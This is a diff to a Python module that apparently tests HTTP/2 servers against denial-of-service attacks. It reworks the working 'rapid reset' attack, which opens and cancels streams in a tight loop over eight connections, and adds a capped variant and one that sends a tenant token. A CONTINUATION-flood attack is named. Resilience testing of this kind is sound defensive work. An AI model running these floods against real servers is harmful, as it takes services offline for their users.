@@ -60,22 +60,33 @@ async def _many(
 
 @attack("calls reset at once", "8 connections that open and reset streams as quickly as they can", token=False)
 async def rapid_reset(target: Target) -> Outcomes:
-    return await _many(target, 8, _reset_at_once)
+    return await _many(target, 8, _resets(target))
 
 
-@attack("calls reset again", "the same, and each connection that is closed is followed by another", token=False)
+@attack("calls reset again", "the same, and after 300 calls another connection takes the place of each", token=False)
 async def rapid_reset_again(target: Target) -> Outcomes:
-    return await _many(target, 8, _reset_at_once, again=True)
+    return await _many(target, 8, _resets(target, 300), again=True)
 
 
-async def _reset_at_once(opened: http2.Connection, end: float) -> None:
-    for number in itertools.count(1, 2):
-        if not opened.open or time.monotonic() > end:
-            return
-        await opened.call(number, _SEGMENT)
-        await opened.send(RESET, 0, number, struct.pack(">I", 8))
-        if number % 64 == 1:
-            await asyncio.sleep(0)
+@attack("calls reset by a tenant", "the same as *calls reset at once* with a token", token=True)
+async def rapid_reset_by_a_tenant(target: Target) -> Outcomes:
+    return await _many(target, 8, _resets(target))
+
+
+def _resets(target: Target, most: int | None = None) -> Callable[[http2.Connection, float], Awaitable[None]]:
+    """Returns what opens and resets streams, at most so many."""
+    token = [(b"authorization", value.encode()) for _, value in target.metadata]
+
+    async def act(opened: http2.Connection, end: float) -> None:
+        for number in itertools.islice(itertools.count(1, 2), most):
+            if not opened.open or time.monotonic() > end:
+                return
+            await opened.call(number, _SEGMENT, *token)
+            await opened.send(RESET, 0, number, struct.pack(">I", 8))
+            if number % 64 == 1:
+                await asyncio.sleep(0)
+
+    return act
 
 
 @attack("headers without end", "20 connections whose header block goes on and on", token=False)
